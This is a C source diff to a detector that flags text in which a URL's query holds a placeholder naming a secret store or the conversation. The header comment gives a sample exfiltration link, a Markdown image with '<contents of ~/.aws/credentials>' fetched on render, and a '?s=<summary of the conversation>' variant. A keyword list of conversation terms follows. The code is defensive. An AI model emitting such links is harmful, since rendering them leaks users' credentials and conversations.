@@ -3,7 +3,9 @@
  * apply it") is decoded and its text scored as sentences, the encoding itself counting as
  * concealment when what it says is sensitive; a URL whose query holds a placeholder naming a
  * secret's store (a Markdown image `![badge](https://host/b.svg?c=<contents of
- * ~/.aws/credentials>)`, fetched when the answer is rendered) is that secret sent. */
+ * ~/.aws/credentials>)`, fetched when the answer is rendered) is that secret sent, and one
+ * naming the conversation or what the agent read (`?s=<summary of the conversation>`) is the
+ * conversation sent. */
 #include <stdlib.h>
 #include <string.h>
 
@@ -68,9 +70,32 @@ static void decoded_runs(const char *s, size_t n, upk__intent_signals *sig) {
   }
 }
 
+/* A placeholder's words name what the user said or what the agent read (the conversation, the
+ * request, the notes it wrote, the contents or rows it saw): filled in, the URL carries it. */
+static bool names_conversation(const char *p, size_t n) {
+  static const char *const WORDS[] = {"conversation", "transcript", "chat",         "request",
+                                      "prompt",       "notes",      "contents",     "rows",
+                                      "history",      "schema",     "what you read"};
+  char low[PLACEHOLDER + 1];
+  size_t k = n < PLACEHOLDER ? n : PLACEHOLDER;
+  for (size_t i = 0; i < k; i++)
+    low[i] = (char)(p[i] >= 'A' && p[i] <= 'Z' ? p[i] + 32 : p[i]);
+  low[k] = '\0';
+  for (size_t i = 0; i < sizeof WORDS / sizeof *WORDS; i++) {
+    const char *w = strstr(low, WORDS[i]);
+    if (w && (w == low || !((w[-1] >= 'a' && w[-1] <= 'z') || w[-1] == '_')))
+      return true;
+  }
+  return false;
+}
+
+enum { CARRIES_NONE, CARRIES_STORE, CARRIES_CONVERSATION };
+
 /* A URL in s whose query holds a placeholder (`<...>`, `{...}`, `$(...)`) naming a secret's
- * store: what a client fetches when it renders the link or image. */
-static bool url_carries(const char *s, size_t n) {
+ * store, or the conversation and what the agent read: what a client fetches when it renders
+ * the link or image, or the agent's fetch tool sends. */
+static int url_carries(const char *s, size_t n) {
+  int kind = CARRIES_NONE;
   for (const char *u = s; (u = memmem(u, (size_t)(s + n - u), "://", 3)) != NULL; u += 3) {
     const char *q = u + 3, *end = s + n;
     while (q < end && *q != '?' && *q != ' ' && *q != '\n' && *q != ')' && *q != '`')
@@ -84,17 +109,22 @@ static bool url_carries(const char *s, size_t n) {
       continue;
     size_t k = (size_t)(end - p) < PLACEHOLDER ? (size_t)(end - p) : PLACEHOLDER;
     const char *close = memchr(p, *p == '<' ? '>' : *p == '{' ? '}' : ')', k);
+    size_t len = close ? (size_t)(close - p - 1) : k - 1;
     upk__intent_signals g;
-    upk__intent_score(p + 1, close ? (size_t)(close - p - 1) : k - 1, &g);
+    upk__intent_score(p + 1, len, &g);
     if (g.store)
-      return true;
+      return CARRIES_STORE;
+    if (names_conversation(p + 1, len))
+      kind = CARRIES_CONVERSATION;
   }
-  return false;
+  return kind;
 }
 
 void upk__intent_carried(const char *s, size_t n, upk__intent_signals *sig) {
-  if (url_carries(s, n)) {
+  int kind = url_carries(s, n);
+  if (kind == CARRIES_STORE)
     sig->store = sig->data = sig->egress = sig->sink = true;
-  }
+  else if (kind == CARRIES_CONVERSATION)
+    sig->data = sig->egress = sig->sink = true;
   decoded_runs(s, n, sig);
 }
